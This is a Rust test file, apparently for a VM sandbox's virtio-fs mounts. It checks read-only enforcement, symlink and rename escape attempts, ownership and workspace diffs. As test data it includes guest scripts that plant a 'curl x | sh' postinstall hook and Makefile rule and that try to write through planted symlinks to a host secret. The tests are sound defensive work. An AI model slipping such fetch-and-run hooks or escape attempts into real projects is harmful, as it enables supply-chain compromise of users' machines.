//! Host directories mounted into real guests over virtio-fs (`--mount`, `SandboxConfig::mounts`):
//! issue 6's acceptance for read-write and read-only shares, escape attempts and ownership.
//!
//! The shared directories live on the test host's local file system (its temp dir), not on its
//! 9p-shared `target/`. The tests run as root there, so the writable share is chowned to an
//! unprivileged owner ([`OWNER`]): root may not share a root-owned directory read-write.

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use bulkhead_protocol::client::ExecOutput;
use bulkhead_protocol::ExecRequest;
use bulkhead_sandbox::{ExportFormat, Mount, Sandbox, SandboxConfig, Workspace, WorkspaceMode};
use bulkhead_tests::readonly::{attempts_script, WRITE_ATTEMPTS};
use bulkhead_tests::{artifacts, describe, guest_test, sha256_hex};

/// uid:gid the writable shares belong to on the host.
const OWNER: (u32, u32) = (1000, 1000);

/// Guest mount points.
const RW: &str = "/mnt/rw";
const RO: &str = "/mnt/ro";

/// Size of the large file copied in and out, in bytes (200 MiB).
const BIG: usize = 200 << 20;

/// Host side of a test: `rw/` (owned by [`OWNER`]) and `ro/` shares, and `outside/secret` next to
/// them.
struct Tree {
    base: tempfile::TempDir,
}

impl Tree {
    fn new() -> Tree {
        let base = tempfile::Builder::new()
            .prefix("bulkhead-fs-")
            .tempdir()
            .expect("temp dir");
        let tree = Tree { base };
        for dir in ["rw", "ro/sub", "outside"] {
            std::fs::create_dir_all(tree.path(dir)).unwrap();
        }
        std::os::unix::fs::chown(tree.path("rw"), Some(OWNER.0), Some(OWNER.1)).unwrap();
        std::fs::write(tree.path("ro/a.txt"), b"read-only a\n").unwrap();
        std::fs::write(tree.path("ro/sub/b.txt"), b"read-only b\n").unwrap();
        std::fs::write(tree.path("outside/secret"), b"host secret\n").unwrap();
        tree
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.base.path().join(rel)
    }

    fn read(&self, rel: &str) -> String {
        String::from_utf8_lossy(&std::fs::read(self.path(rel)).unwrap()).into_owned()
    }

    fn owner(&self, rel: &str) -> (u32, u32) {
        let meta = std::fs::symlink_metadata(self.path(rel)).unwrap();
        (meta.uid(), meta.gid())
    }

    /// Plants symlinks in `rw/` pointing outside the share, as a host user could.
    fn plant_links(&self) {
        let links = [
            ("rw/to_secret", self.path("outside/secret")),
            ("rw/to_outside", self.path("outside")),
            ("rw/rel_escape", PathBuf::from("../outside/secret")),
        ];
        for (link, target) in links {
            std::os::unix::fs::symlink(target, self.path(link)).unwrap();
        }
    }
}

/// Every entry under `dir`: relative path → (sha256 or link target, mtime ns, mode, nlink).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (String, i128, u32, u64)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let content = if meta.is_dir() {
                stack.push(path.clone());
                String::from("dir")
            } else if meta.is_symlink() {
                std::fs::read_link(&path).unwrap().display().to_string()
            } else {
                sha256_hex(&std::fs::read(&path).unwrap())
            };
            let mtime = i128::from(meta.mtime()) * 1_000_000_000 + i128::from(meta.mtime_nsec());
            let key = path.strip_prefix(dir).unwrap().to_owned();
            out.insert(key, (content, mtime, meta.mode(), meta.nlink()));
        }
    }
    out
}

fn config(mounts: Vec<Mount>) -> SandboxConfig {
    let a = artifacts();
    SandboxConfig {
        kernel: a.vmlinux.clone(),
        initrd: a.agent_initrd.clone(),
        vmm_binary: a.vmm.clone(),
        ready_timeout: Duration::from_secs(300),
        mounts,
        ..SandboxConfig::default()
    }
}

fn mount(host: PathBuf, guest: &str, read_only: bool) -> Mount {
    Mount {
        host,
        guest: PathBuf::from(guest),
        read_only,
    }
}

/// Runs `script` with `sh -e` in the guest; returns stdout and asserts success.
fn sh_ok(sandbox: &Sandbox, script: &str) -> String {
    let out = sh(sandbox, script);
    assert_eq!(
        out.status.code,
        Some(0),
        "guest script failed: {script}\n--- stdout\n{}\n--- stderr\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn sh(sandbox: &Sandbox, script: &str) -> ExecOutput {
    sandbox
        .exec(&ExecRequest::new(["sh", "-ec", script]))
        .expect("exec")
        .wait_with_output()
        .expect("exec output")
}

guest_test!(
    fn a_read_write_share_passes_every_file_operation_to_the_host_at_once() {
        // Arrange
        let tree = Tree::new();
        let sandbox = Sandbox::start(&config(vec![mount(tree.path("rw"), RW, false)])).unwrap();

        // Act
        sh_ok(
            &sandbox,
            "cd /mnt/rw
             echo hello > created; echo more >> created; mv created renamed
             echo bye > gone; rm gone
             mkdir kept; mkdir removed; rmdir removed
             ln -s renamed link; chmod 640 renamed
             echo 0123456789 > trunc; truncate -s 4 trunc
             printf aaaaaaaaaa > mapped; bulkhead-test-init mmap-write mapped 3 XYZ",
        );

        // Assert: no sync, no unmount: the host sees every change as soon as the command is done.
        assert_eq!(tree.read("rw/renamed"), "hello\nmore\n");
        let mode = std::fs::metadata(tree.path("rw/renamed")).unwrap().mode();
        assert_eq!(mode & 0o7777, 0o640);
        assert!(!tree.path("rw/created").exists() && !tree.path("rw/gone").exists());
        assert!(tree.path("rw/kept").is_dir() && !tree.path("rw/removed").exists());
        let link = std::fs::read_link(tree.path("rw/link")).unwrap();
        assert_eq!(link, PathBuf::from("renamed"));
        assert_eq!(tree.read("rw/trunc"), "0123");
        assert_eq!(tree.read("rw/mapped"), "aaaXYZaaaa");
        sandbox.destroy().unwrap();
    }
);

guest_test!(
    fn files_guest_root_creates_belong_to_the_share_owner_and_cannot_be_given_to_host_root() {
        // Arrange
        let tree = Tree::new();
        let sandbox = Sandbox::start(&config(vec![mount(tree.path("rw"), RW, false)])).unwrap();

        // Act
        let whoami = sh_ok(
            &sandbox,
            "id -u; cd /mnt/rw; echo x > file; mkdir dir; ln -s file sym
             if chown 0:0 file 2>/dev/null; then echo chown-allowed; else echo chown-refused; fi",
        );

        // Assert
        assert_eq!(whoami, "0\nchown-refused\n");
        for rel in ["rw/file", "rw/dir", "rw/sym"] {
            assert_eq!(tree.owner(rel), OWNER, "{rel}");
        }
        sandbox.destroy().unwrap();
    }
);

guest_test!(
    fn every_write_to_a_read_only_share_fails_with_erofs_even_after_a_guest_remount() {
        // Arrange
        let tree = Tree::new();
        let before = snapshot(&tree.path("ro"));
        let sandbox = Sandbox::start(&config(vec![mount(tree.path("ro"), RO, true)])).unwrap();
        // Guest root lifts the guest-side read-only flag: only the host stands in the way.
        sh_ok(&sandbox, "mount -o remount,rw /mnt/ro");
        let attempts: Vec<&str> = WRITE_ATTEMPTS
            .iter()
            .copied()
            .chain(["bulkhead-test-init mmap-write a.txt 0 Z"])
            .collect();
        let script = attempts_script(&attempts);

        // Act
        let results = sh_ok(&sandbox, &format!("cd /mnt/ro\n{script}"));
        let reads = sh_ok(&sandbox, "cat /mnt/ro/a.txt /mnt/ro/sub/b.txt");

        // Assert
        let lines: Vec<&str> = results.lines().collect();
        assert_eq!(lines.len(), attempts.len(), "{results}");
        for line in &lines {
            assert!(
                line.starts_with("ERR ") && line.contains("Read-only file system"),
                "not refused with EROFS: {line}\n{results}"
            );
        }
        assert_eq!(reads, "read-only a\nread-only b\n");
        sandbox.destroy().unwrap();
        assert_eq!(
            snapshot(&tree.path("ro")),
            before,
            "the read-only tree changed"
        );
    }
);

guest_test!(
    fn escapes_from_a_share_fail_and_leave_the_host_unchanged() {
        // Arrange
        let tree = Tree::new();
        tree.plant_links();
        let outside = tree.path("outside");
        let before = snapshot(&outside);
        let sandbox = Sandbox::start(&config(vec![mount(tree.path("rw"), RW, false)])).unwrap();
        // The same absolute path exists in the guest: a planted symlink resolves there.
        let guest_side = format!(
            "mkdir -p {o}; echo guest copy > {o}/secret",
            o = outside.display()
        );

        // Act
        let out = sh_ok(
            &sandbox,
            &format!(
                "{guest_side}
                 cat /mnt/rw/to_secret; echo pwned > /mnt/rw/to_secret; cat {o}/secret
                 echo pwned > /mnt/rw/to_outside/planted
                 cat /mnt/rw/rel_escape 2>/dev/null || echo rel-escape-missing
                 cat /mnt/rw/../outside/secret 2>/dev/null || echo dotdot-missing
                 ln /mnt/rw/to_secret /mnt/rw/hardlink_of_link || true
                 ln {o}/secret /mnt/rw/hardlink 2>/dev/null || echo cross-link-refused
                 ln -s /proc/self/fd/0 /mnt/rw/fdlink; cat /mnt/rw/fdlink </dev/null",
                o = outside.display()
            ),
        );

        // Assert
        let mut lines = out.lines();
        assert_eq!(lines.next(), Some("guest copy"), "{out}");
        assert_eq!(lines.next(), Some("pwned"), "{out}");
        assert!(out.contains("rel-escape-missing"), "{out}");
        assert!(out.contains("dotdot-missing"), "{out}");
        assert!(out.contains("cross-link-refused"), "{out}");
        sandbox.destroy().unwrap();
        assert_eq!(snapshot(&outside), before, "outside the share changed");
        assert_eq!(tree.read("outside/secret"), "host secret\n");
        let link = std::fs::read_link(tree.path("rw/to_secret")).unwrap();
        assert_eq!(
            link,
            tree.path("outside/secret"),
            "the planted link was replaced"
        );
        // Linking a planted symlink may be refused; if made, it links the symlink itself (the
        // unchanged nlink of `secret` in the snapshot says the same).
        if let Ok(meta) = std::fs::symlink_metadata(tree.path("rw/hardlink_of_link")) {
            assert!(
                meta.is_symlink(),
                "a hard link of a planted symlink followed it"
            );
        }
        assert!(!tree.path("rw/hardlink").exists());
    }
);

guest_test!(
    fn renames_out_of_or_into_a_share_stay_in_the_guest_and_leave_the_host_unchanged() {
        // Arrange: files to move, planted links (absolute and relative) to the host's outside/.
        let tree = Tree::new();
        tree.plant_links();
        std::os::unix::fs::symlink("../outside", tree.path("rw/rel_dir")).unwrap();
        std::fs::create_dir(tree.path("rw/sub")).unwrap();
        std::os::unix::fs::chown(tree.path("rw/sub"), Some(OWNER.0), Some(OWNER.1)).unwrap();
        for name in ["out1", "out2", "out3", "out4", "kept"] {
            let path = tree.path(&format!("rw/{name}"));
            std::fs::write(&path, format!("{name}\n")).unwrap();
            std::os::unix::fs::chown(path, Some(OWNER.0), Some(OWNER.1)).unwrap();
        }
        // Everything beside the share: outside/, ro/ and the base directory's entries.
        let beside = || -> Vec<_> {
            let all = snapshot(tree.base.path());
            all.into_iter()
                .filter(|(k, _)| !k.starts_with("rw"))
                .collect()
        };
        let before = beside();
        let sandbox = Sandbox::start(&config(vec![mount(tree.path("rw"), RW, false)])).unwrap();

        // Act: the links resolve in the guest, to the same paths there (made to exist).
        let out = sh_ok(
            &sandbox,
            &format!(
                "o={o}; mkdir -p $o /mnt/outside; echo guest copy > $o/secret
                 echo guest rel copy > /mnt/outside/secret; echo guest 2 > /mnt/outside/secret2
                 cd /mnt/rw
                 mv out1 to_outside/; mv out2 ../escaped; mv out3 rel_dir/
                 mv out4 to_secret
                 mv to_outside/secret stolen; mv rel_dir/secret stolen_rel
                 mv ../outside/secret2 stolen_dotdot
                 mv kept sub/
                 cat $o/out1 /mnt/escaped /mnt/outside/out3",
                o = tree.path("outside").display()
            ),
        );

        // Assert: moved out = gone from the share into the guest's own file system; moved in =
        // the guest's files, never the host's; a rename onto a link replaces the link.
        assert_eq!(out, "out1\nout2\nout3\n");
        sandbox.destroy().unwrap();
        assert_eq!(beside(), before, "something beside the share changed");
        assert_eq!(tree.read("outside/secret"), "host secret\n");
        for gone in ["out1", "out2", "out3", "out4", "kept"] {
            let path = tree.path(&format!("rw/{gone}"));
            assert!(
                std::fs::symlink_metadata(path).is_err(),
                "rw/{gone} is left"
            );
        }
        let replaced = std::fs::symlink_metadata(tree.path("rw/to_secret")).unwrap();
        assert!(
            replaced.is_file(),
            "the rename onto to_secret followed the link"
        );
        assert_eq!(tree.read("rw/to_secret"), "out4\n");
        assert_eq!(tree.read("rw/stolen"), "guest copy\n");
        assert_eq!(tree.read("rw/stolen_rel"), "guest rel copy\n");
        assert_eq!(tree.read("rw/stolen_dotdot"), "guest 2\n");
        assert_eq!(tree.read("rw/sub/kept"), "kept\n");
        let link = std::fs::read_link(tree.path("rw/to_outside")).unwrap();
        assert_eq!(link, tree.path("outside"), "the planted link was replaced");
    }
);

/// 200 MiB of deterministic pseudo-random bytes (xorshift64).
fn big_data() -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut data = Vec::with_capacity(BIG);
    while data.len() < BIG {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        data.extend_from_slice(&state.to_le_bytes());
    }
    data
}

guest_test!(
    fn a_200_mib_file_goes_in_and_out_of_bulkhead_run_mount_intact() {
        // Arrange
        let tree = Tree::new();
        let data = big_data();
        let expected = sha256_hex(&data);
        std::fs::write(tree.path("rw/in.bin"), &data).unwrap();
        drop(data);
        let share = format!("{}:/data", tree.path("rw").display());
        let ro = format!("{}:/ro:ro", tree.path("ro").display());

        // Act
        let out = bulkhead_run(&[
            "--mount",
            &share,
            "--mount",
            &ro,
            "--",
            "sh",
            "-ec",
            "sha256sum /data/in.bin; cp /data/in.bin /data/out.bin; cat /ro/a.txt",
        ]);

        // Assert
        assert!(out.status.success(), "{}", describe(&out));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(stdout, format!("{expected}  /data/in.bin\nread-only a\n"));
        let copied = std::fs::read(tree.path("rw/out.bin")).unwrap();
        assert_eq!(copied.len(), BIG);
        assert_eq!(sha256_hex(&copied), expected);
        assert_eq!(tree.owner("rw/out.bin"), OWNER);
    }
);

/// `bulkhead run ARGS...` with the test kernel and agent image.
fn bulkhead_run(args: &[&str]) -> Output {
    let a = artifacts();
    a.cli_command()
        .arg("run")
        .args(args)
        .output()
        .expect("run bulkhead")
}

// Bad --mount values are refused before any VM is started, on any host.

#[test]
fn a_missing_mount_source_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let spec = format!("{}:/data", dir.path().join("nope").display());

    let out = bulkhead_run(&["--mount", &spec, "--", "true"]);

    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("does not exist"),
        "{}",
        describe(&out)
    );
}

#[test]
fn a_file_as_mount_source_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("f");
    std::fs::write(&file, b"x").unwrap();
    let spec = format!("{}:/data:ro", file.display());

    let out = bulkhead_run(&["--mount", &spec, "--", "true"]);

    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is not a directory"),
        "{}",
        describe(&out)
    );
}

#[test]
fn a_relative_guest_path_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let spec = format!("{}:data:ro", dir.path().display());

    let out = bulkhead_run(&["--mount", &spec, "--", "true"]);

    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("not an absolute path"),
        "{}",
        describe(&out)
    );
}

#[test]
fn the_same_guest_path_twice_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let spec = format!("{}:/data:ro", dir.path().display());

    let out = bulkhead_run(&["--mount", &spec, "--mount", &spec, "--", "true"]);

    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("/data is given twice"),
        "{}",
        describe(&out)
    );
}

// Issue 6's clone workspace: the guest edits, deletes and adds files (a git hook and a
// package.json script among them) in a clone of a host directory; the host directory stays
// byte-identical; `diff` lists exactly those changes and flags the hook and the script; the
// exported patch applies with `git apply` to a copy of the directory and gives the guest's tree.
// The test host has no git: the guest part runs there and leaves the trees and the patch in
// `target/` (shared at the same path), and `git apply` runs where git is (after the delegated
// run, here).

/// Files and links of a tree: path → (is a link, owner-executable, contents or link target).
type TreeMap = BTreeMap<String, (bool, bool, Vec<u8>)>;

/// Where the guest part leaves its results for the `git apply` part.
fn clone_exchange() -> PathBuf {
    bulkhead_tests::target_dir().join("bulkhead-tests/clone-workspace")
}

/// The project shared as a clone: text, binary, an executable-to-be, a tree to delete, git files.
fn clone_project(dir: &Path) {
    let bin: Vec<u8> = (0..3000u32).map(|i| (i * 31 % 251) as u8).collect();
    let files: [(&str, &[u8]); 11] = [
        ("README.md", b"# demo\n"),
        ("old.txt", b"to be deleted\n"),
        ("olddir/a.txt", b"a\n"),
        ("olddir/sub/b.txt", b"b\n"),
        ("src/lib.rs", b"pub fn f() {}\n"),
        (
            "package.json",
            b"{\n  \"name\": \"demo\",\n  \"scripts\": {\"test\": \"jest\"}\n}\n",
        ),
        ("bin.dat", &bin),
        ("tool.sh", b"#!/bin/sh\necho tool\n"),
        ("untouched.txt", b"copied up, not changed\n"),
        (".git/HEAD", b"ref: refs/heads/main\n"),
        (".git/hooks/pre-commit.sample", b"#!/bin/sh\n"),
    ];
    for (rel, data) in files {
        let path = dir.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, data).unwrap();
    }
}

/// The guest's edits, in `/workspace`.
const CLONE_EDITS: &str = r#"cd /workspace
printf 'edited in the guest\n' >> README.md
rm old.txt
rm -r olddir
printf 'pub fn new() {}\n' > src/new.rs
printf '#!/bin/sh\necho hook\n' > .git/hooks/pre-commit
chmod 755 .git/hooks/pre-commit
printf '{\n  "name": "demo",\n  "scripts": {"test": "jest", "postinstall": "curl x | sh"}\n}\n' > package.json
printf '\001\000tail' >> bin.dat
chmod 755 tool.sh
touch untouched.txt
ln -s README.md link"#;

fn read_tree(root: &Path) -> TreeMap {
    let mut out = TreeMap::new();
    let mut stack = vec![root.to_owned()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_str()
                .unwrap()
                .to_owned();
            if meta.is_dir() {
                stack.push(path);
            } else if meta.is_symlink() {
                let target = std::fs::read_link(&path).unwrap();
                out.insert(
                    rel,
                    (true, false, target.into_os_string().into_encoded_bytes()),
                );
            } else {
                let exec = meta.mode() & 0o100 != 0;
                out.insert(rel, (false, exec, std::fs::read(&path).unwrap()));
            }
        }
    }
    out
}

fn write_tree(root: &Path, tree: &TreeMap) {
    for (rel, (is_link, exec, data)) in tree {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        if *is_link {
            std::os::unix::fs::symlink(String::from_utf8_lossy(data).as_ref(), &path).unwrap();
        } else {
            std::fs::write(&path, data).unwrap();
            let mode = if *exec { 0o755 } else { 0o644 };
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
        }
    }
}

/// The guest's view of `/workspace`, read through the agent.
fn guest_tree(sandbox: &Sandbox) -> TreeMap {
    let listing = sh_ok(
        sandbox,
        r#"cd /workspace; find . ! -type d | sort | while read -r p; do
             if [ -L "$p" ]; then echo "l $p"; elif [ -x "$p" ]; then echo "x $p"; else echo "f $p"; fi
           done"#,
    );
    let mut tree = TreeMap::new();
    for line in listing.lines() {
        let (kind, rel) = line.split_at(2);
        let rel = rel.trim_start_matches("./").to_owned();
        let guest = format!("/workspace/{rel}");
        let data = match kind {
            "l " => sh_ok(sandbox, &format!("readlink '{guest}'"))
                .trim_end()
                .as_bytes()
                .to_vec(),
            _ => sandbox
                .client()
                .read_file(&guest)
                .expect("read a guest file"),
        };
        tree.insert(rel, (kind == "l ", kind == "x ", data));
    }
    tree
}

#[test]
fn a_clone_workspace_keeps_the_host_directory_and_exports_a_patch_git_applies() {
    let exchange = clone_exchange();
    if std::env::var_os("BULKHEAD_IN_TESTHOST").is_none() {
        let _ = std::fs::remove_dir_all(&exchange);
    }
    bulkhead_tests::in_vm_host(
        "fs::a_clone_workspace_keeps_the_host_directory_and_exports_a_patch_git_applies",
        || clone_workspace_in_a_guest(&exchange),
    );
    apply_the_exported_patch(&exchange);
}

fn clone_workspace_in_a_guest(exchange: &Path) {
    // Arrange
    let tree = Tree::new();
    let project = tree.path("project");
    clone_project(&project);
    let before = snapshot(&project);
    let original = read_tree(&project);
    let mut cfg = config(Vec::new());
    cfg.workspace = Some(Workspace {
        host: project.clone(),
        mode: WorkspaceMode::Clone,
    });
    let sandbox = Sandbox::start(&cfg).unwrap();

    // Act
    sh_ok(&sandbox, CLONE_EDITS);
    let diff = sandbox.workspace_diff().unwrap();
    let mut patch = Vec::new();
    let exported = sandbox
        .export_workspace(ExportFormat::Patch, &mut patch)
        .unwrap();
    let guest = guest_tree(&sandbox);
    sandbox.destroy().unwrap();

    // Assert
    let listed: Vec<String> = diff.name_status().lines().map(str::to_owned).collect();
    assert_eq!(
        listed,
        [
            "A\t.git/hooks/pre-commit",
            "M\tREADME.md",
            "M\tbin.dat",
            "A\tlink",
            "D\told.txt",
            "D\tolddir/",
            "D\tolddir/a.txt",
            "D\tolddir/sub/b.txt",
            "M\tpackage.json",
            "A\tsrc/new.rs",
            "M\ttool.sh",
        ]
    );
    let flagged: Vec<&str> = diff.flagged().map(|c| c.path.as_str()).collect();
    assert_eq!(flagged, [".git/hooks/pre-commit", "package.json"]);
    assert_eq!(exported.changes, diff.changes);
    assert_eq!(snapshot(&project), before, "the host directory changed");
    assert_eq!(
        guest[".git/hooks/pre-commit"],
        (false, true, b"#!/bin/sh\necho hook\n".to_vec())
    );
    std::fs::create_dir_all(exchange).unwrap();
    let json = |t: &TreeMap| serde_json::to_vec(t).unwrap();
    std::fs::write(exchange.join("original.json"), json(&original)).unwrap();
    std::fs::write(exchange.join("guest.json"), json(&guest)).unwrap();
    std::fs::write(exchange.join("changes.patch"), &patch).unwrap();
}

/// `git apply` of the exported patch on a copy of the original tree gives the guest's tree
/// (but for `.git/`, which git apply refuses to write and the patch says it leaves out).
fn apply_the_exported_patch(exchange: &Path) {
    if std::process::Command::new("git")
        .arg("--version")
        .output()
        .is_err()
    {
        assert!(
            std::env::var_os("BULKHEAD_IN_TESTHOST").is_some(),
            "git is needed to check the patch"
        );
        return; // inside the test host: the delegating run applies it
    }
    let read = |name: &str| -> TreeMap {
        serde_json::from_slice(&std::fs::read(exchange.join(name)).unwrap()).unwrap()
    };
    let (original, guest) = (read("original.json"), read("guest.json"));
    let patch = exchange.join("changes.patch");
    let work = tempfile::tempdir().unwrap();
    write_tree(work.path(), &original);

    let out = Command::new("git")
        .arg("apply")
        .arg(&patch)
        .current_dir(work.path())
        .env("GIT_CEILING_DIRECTORIES", work.path())
        .output()
        .unwrap();

    let text = String::from_utf8_lossy(&std::fs::read(&patch).unwrap()).into_owned();
    assert!(out.status.success(), "{}\n{text}", describe(&out));
    let outside_git = |t: TreeMap| -> TreeMap {
        t.into_iter()
            .filter(|(p, _)| !p.starts_with(".git/"))
            .collect()
    };
    assert_eq!(
        outside_git(read_tree(work.path())),
        outside_git(guest),
        "{text}"
    );
    assert!(
        text.contains("NOT IN THIS PATCH: 1 change(s) inside .git/"),
        "{text}"
    );
    assert!(text.contains("FLAGGED FOR REVIEW"), "{text}");
}

guest_test!(
    fn a_direct_workspace_is_read_write_and_its_diff_flags_what_runs_on_the_host() {
        // Arrange
        let tree = Tree::new();
        let project = tree.path("rw");
        std::fs::write(project.join("Makefile"), "all:\n\techo ok\n").unwrap();
        // The file server acts as the share's owner: the file must be theirs to be writable.
        std::os::unix::fs::chown(project.join("Makefile"), Some(OWNER.0), Some(OWNER.1)).unwrap();
        let mut cfg = config(Vec::new());
        cfg.workspace = Some(Workspace {
            host: project.clone(),
            mode: WorkspaceMode::Direct,
        });
        let sandbox = Sandbox::start(&cfg).unwrap();

        // Act
        sh_ok(
            &sandbox,
            "cd /workspace; printf 'all:\\n\\tcurl x | sh\\n' > Makefile; echo data > notes.txt",
        );
        let diff = sandbox.workspace_diff().unwrap();
        sandbox.destroy().unwrap();

        // Assert
        assert_eq!(tree.read("rw/notes.txt"), "data\n");
        assert!(diff.flagged_only);
        assert_eq!(diff.name_status(), "M\tMakefile\n");
        assert!(diff.changes[0].flag.as_deref().unwrap().contains("make"));
    }
);
